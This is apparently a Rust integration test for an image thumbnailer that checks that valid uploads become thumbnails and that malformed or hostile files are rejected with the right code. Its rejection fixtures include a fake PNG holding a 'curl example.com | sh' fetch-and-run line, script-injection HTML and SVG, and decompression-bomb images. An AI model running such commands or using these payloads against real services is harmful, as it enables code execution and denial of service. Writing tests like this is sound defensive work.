//! `gatepost thumbnail` on folders of good and of bad images, each of a kind that users upload.

use std::collections::BTreeMap;
use std::io::Cursor;
use std::path::{Path, PathBuf};
use std::process::Command;

use image::{DynamicImage, ImageFormat};
use serde_json::Value;

use crate::harness::{gatepost, photo, repository};

/// A folder of images by name.
type Images = BTreeMap<String, Vec<u8>>;

/// The results of `gatepost thumbnail`, by name.
fn thumbnail(images: &Images, out: &Path) -> BTreeMap<String, Value> {
    let folder = tempfile::tempdir().unwrap();
    for (name, bytes) in images {
        std::fs::write(folder.path().join(name), bytes).unwrap();
    }
    let output = gatepost()
        .arg("thumbnail")
        .arg(folder.path())
        .args(["--format", "json", "--out"])
        .arg(out)
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
    let lines: BTreeMap<_, _> = String::from_utf8(output.stdout)
        .unwrap()
        .lines()
        .map(|line| {
            let line: Value = serde_json::from_str(line).unwrap();
            let file = Path::new(line["file"].as_str().unwrap());
            (file.file_name().unwrap().to_str().unwrap().to_owned(), line)
        })
        .collect();
    assert_eq!(lines.len(), images.len());
    lines
}

fn fixtures() -> Images {
    let folder = repository("upload-processor/thumbnailer/tests/it/fixtures");
    images(&folder, &["jpg", "png", "webp"])
}

/// The files of a folder that have one of these extensions.
fn images(folder: &Path, extensions: &[&str]) -> Images {
    std::fs::read_dir(folder)
        .unwrap_or_else(|error| panic!("{}: {error}", folder.display()))
        .map(|entry| entry.unwrap().path())
        .filter(|path| {
            let extension = path.extension().and_then(std::ffi::OsStr::to_str);
            extension.is_some_and(|extension| extensions.contains(&extension))
        })
        .map(|path| {
            let name = path.file_name().unwrap().to_str().unwrap().to_owned();
            (name, std::fs::read(path).unwrap())
        })
        .collect()
}

/// Willem van Schaik's pictures of every kind of PNG, from the package of minipng.
fn png_suite() -> Images {
    let cargo = |arguments: &[&str]| {
        let output = Command::new(env!("CARGO"))
            .args(arguments)
            .current_dir(env!("CARGO_MANIFEST_DIR"))
            .output()
            .unwrap();
        String::from_utf8(output.stdout).unwrap()
    };
    let version = cargo(&["-vV"]);
    let host = version.lines().find_map(|line| line.strip_prefix("host: "));
    let metadata = cargo(&[
        "metadata",
        "--format-version=1",
        "--offline",
        "--filter-platform",
        host.unwrap(),
    ]);
    let metadata: Value = serde_json::from_str(&metadata).unwrap();
    let packages = metadata["packages"].as_array().unwrap();
    let minipng = packages.iter().find(|package| package["name"] == "minipng");
    let manifest = PathBuf::from(minipng.unwrap()["manifest_path"].as_str().unwrap());
    images(&manifest.with_file_name("test/pngsuite"), &["png"])
}

/// A JPEG with an orientation.
fn turned(orientation: u8) -> Vec<u8> {
    let mut file = photo(640, 400);
    let tiff = [
        b"MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0",
        &[orientation, 0, 0, 0, 0, 0, 0][..],
    ]
    .concat();
    let exif = [&[0xff, 0xe1, 0, 34][..], b"Exif\0\0", &tiff].concat();
    file.splice(2..2, exif);
    file
}

/// The position where a picture is complete: the end of a PNG's image data, without the CRC; a JPEG's last block, without
/// EOI.
fn end_of_pixels(file: &[u8]) -> usize {
    if file.starts_with(b"\xff\xd8") {
        return file
            .windows(2)
            .rposition(|pair| pair == b"\xff\xd9")
            .unwrap();
    }
    let data = file.windows(4).rposition(|kind| kind == b"IDAT");
    match data.filter(|_| file.starts_with(b"\x89PNG")) {
        Some(data) => {
            let length = u32::from_be_bytes(file[data - 4..data].try_into().unwrap());
            data + 4 + length as usize
        }
        None => file.len(),
    }
}

fn good() -> Images {
    let mut good: Images = fixtures()
        .into_iter()
        .filter(|(name, _)| !name.starts_with("animated") && !name.starts_with("arithmetic"))
        .collect();
    good.extend(
        png_suite()
            .into_iter()
            .filter(|(name, _)| !name.starts_with('x')),
    );
    for orientation in 1..=8 {
        good.insert(format!("turned-{orientation}.jpg"), turned(orientation));
    }
    // PNGs truncated after their rows.
    for (name, file) in png_suite() {
        if name.starts_with("basn") {
            let cut = file[..end_of_pixels(&file)].to_vec();
            good.insert(format!("without-the-end-of-{name}"), cut);
        }
    }
    // A motion photo with its film after the picture, and the second picture of an MPO.
    let film = [
        photo(320, 200),
        b"\0\0\0\x18ftypmp42".to_vec(),
        vec![7; 9000],
    ]
    .concat();
    good.insert("motion-photo.jpg".into(), film);
    good.insert(
        "pair.mpo".into(),
        [photo(320, 200), photo(160, 100)].concat(),
    );
    // A renamed file: the bytes decide.
    good.insert("named-wrong.png".into(), photo(64, 48));
    good
}

/// Rejected images, by the code of their rejection.
fn bad() -> Vec<(&'static str, Images)> {
    let fixtures = fixtures();
    let suite = png_suite();
    let broken = |names: &[&str]| -> Images {
        names
            .iter()
            .map(|name| (format!("{name}.png"), suite[&format!("{name}.png")].clone()))
            .collect()
    };
    let named = |prefix: &str| -> Images {
        fixtures
            .iter()
            .filter(|(name, _)| name.starts_with(prefix))
            .map(|(name, file)| (name.clone(), file.clone()))
            .collect()
    };

    let mut unsupported = named("arithmetic");
    unsupported.extend(broken(&[
        "xs1n0g01", "xs2n0g01", "xs4n0g01", "xs7n0g01", "xcrn0g04", "xlfn0g04",
    ]));
    for (name, bytes) in [
        (
            "photo.heic",
            &b"\0\0\0\x24ftypheic\0\0\0\0mif1MiHEmiafMiHBheic\0\0"[..],
        ),
        (
            "photo.avif",
            b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf\0\0\0\0",
        ),
        (
            "drawing.svg",
            b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
        ),
        ("page.jpg", b"<!DOCTYPE html><script>alert(1)</script>"),
        ("shell.png", b"#!/bin/sh\ncurl example.com | sh\n"),
        ("document.pdf", b"%PDF-1.7\n1 0 obj\n"),
        ("archive.jpg", b"PK\x03\x04\x14\0\0\0\x08\0"),
        (
            "one-pixel.gif",
            b"GIF89a\x01\0\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;",
        ),
        ("scan.tiff", b"II*\0\x08\0\0\0\0\0\0\0\0\0"),
        ("old.bmp", b"BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0"),
    ] {
        unsupported.insert(name.into(), bytes.to_vec());
    }

    let mut truncated = broken(&["xdtn0g01"]);
    for (name, file) in good() {
        if !fixtures.contains_key(&name) && !name.starts_with("basn") {
            continue;
        }
        let end = end_of_pixels(&file);
        for tenth in 1..10 {
            // The smallest files can be complete after nine tenths.
            let length = (file.len() * tenth / 10).min(end - 1);
            truncated.insert(format!("{tenth}-tenths-of-{name}"), file[..length].to_vec());
        }
        truncated.insert(
            format!("all-but-a-byte-of-{name}"),
            file[..end - 1].to_vec(),
        );
    }

    // A black PNG of 64 million pixels, and files that claim to be even larger.
    let mut black = Cursor::new(Vec::new());
    DynamicImage::new_luma8(8000, 8000)
        .write_to(&mut black, ImageFormat::Png)
        .unwrap();
    let mut jpeg = fixtures["progressive-420.jpg"].clone();
    let frame = jpeg
        .windows(2)
        .position(|pair| pair == [0xff, 0xc2])
        .unwrap();
    jpeg[frame + 5..frame + 9].fill(0xff);
    let canvas = b"RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xff\xff\xff\xff\xff\xff";
    let bombs = Images::from([
        ("black.png".into(), black.into_inner()),
        ("claims.jpg".into(), jpeg),
        ("canvas.webp".into(), canvas.to_vec()),
    ]);

    vec![
        ("unsupported_type", unsupported),
        (
            "corrupt",
            broken(&[
                "xc1n0g08", "xc9n2c08", "xd0n2c08", "xd3n2c08", "xd9n2c08", "xcsn0g01", "xhdn0g08",
            ]),
        ),
        ("truncated", truncated),
        ("too_many_pixels", bombs),
        ("animated", named("animated")),
        (
            "too_small",
            Images::from([("empty.jpg".into(), Vec::new())]),
        ),
    ]
}

#[test]
fn good_images_become_thumbnails() {
    let out = tempfile::tempdir().unwrap();
    let images = good();
    assert!(images.len() > 190, "{}", images.len());
    let mut wrong = Vec::new();
    for (name, line) in thumbnail(&images, out.path()) {
        let renditions = line["renditions"].as_array().unwrap();
        if line["status"] != "ready" || renditions.is_empty() {
            wrong.push(line);
            continue;
        }
        for rendition in renditions {
            let file = std::fs::read(out.path().join(rendition["path"].as_str().unwrap())).unwrap();
            let seen = image::load_from_memory(&file).unwrap();
            assert_eq!(rendition["width"], seen.width(), "{name}");
            assert_eq!(rendition["height"], seen.height(), "{name}");
            assert!(seen.width() <= line["source"]["width"].as_u64().unwrap() as u32);
        }
        if let Some(orientation) = name.strip_prefix("turned-") {
            let lies = ["5.jpg", "6.jpg", "7.jpg", "8.jpg"].contains(&orientation);
            let expected = if lies { [400, 640] } else { [640, 400] };
            let source = [&line["source"]["width"], &line["source"]["height"]];
            assert_eq!(source, expected, "{name}");
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn bad_images_are_rejected_with_their_code() {
    let out = tempfile::tempdir().unwrap();
    let mut wrong = Vec::new();
    for (code, images) in bad() {
        assert!(!images.is_empty(), "{code}");
        for (name, line) in thumbnail(&images, out.path()) {
            let found = line["reason"]["code"].as_str().unwrap_or("ready");
            let message = line["reason"]["message"].as_str().unwrap_or_default();
            let is_quick = code != "too_many_pixels" || line["micros"].as_u64().unwrap() < 50_000;
            if found != code || !message.ends_with('.') || !is_quick {
                wrong.push(format!("{name}: {found}, not {code}: {line}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    // Nothing is written for a rejected file.
    assert_eq!(std::fs::read_dir(out.path()).unwrap().count(), 0);
}
